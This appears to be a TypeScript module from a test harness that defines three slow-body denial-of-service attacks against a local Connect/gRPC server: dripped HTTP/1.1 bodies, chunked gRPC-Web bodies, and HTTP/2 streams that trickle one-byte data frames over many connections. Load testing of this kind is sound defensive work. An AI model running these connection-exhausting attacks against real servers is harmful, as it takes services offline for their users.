import { type Attack, CALL, callHeaders } from "./attack.js";
import { frame, TYPE } from "./frames.js";

/** An HTTP/1.1 body that comes byte by byte. */
export const slowBodyHttp1: Attack = {
  name: "slow body, HTTP/1.1",
  connections: 200,
  async run(connection) {
    const head = ["Host: localhost", "Content-Type: application/json", "Content-Length: 60000"];
    await connection.write([`POST ${CALL} HTTP/1.1`, ...head, "", ""].join("\r\n"));
    await drip(connection, () => connection.write(" "));
  },
};

/** The same in chunks, over Connect's own adapter: gRPC-Web. */
export const slowBodyGrpcWeb: Attack = {
  name: "slow body, gRPC-Web",
  connections: 200,
  async run(connection) {
    const type = "Content-Type: application/grpc-web+proto";
    const head = ["Host: localhost", type, "Transfer-Encoding: chunked"];
    await connection.write([`POST ${CALL} HTTP/1.1`, ...head, "", ""].join("\r\n"));
    await drip(connection, () => connection.write("1\r\n\0\r\n"));
  },
};

/** HTTP/2 bodies that come byte by byte, twenty on a connection. */
export const slowBodyHttp2: Attack = {
  name: "slow body, HTTP/2",
  connections: 20,
  async run(connection) {
    await connection.begin();
    const ids = Array.from({ length: 20 }, (_, i) => 2 * i + 1);
    await connection.write(Buffer.concat(ids.map((id) => callHeaders(id))), ids.length);
    const bytes = Buffer.concat(ids.map((id) => frame(TYPE.data, 0, id, Buffer.alloc(1))));
    await drip(connection, () => connection.write(bytes, ids.length));
  },
};

async function drip(connection: Parameters<Attack["run"]>[0], drop: () => Promise<void>) {
  while (connection.going) {
    await drop();
    await connection.wait(200);
  }
}
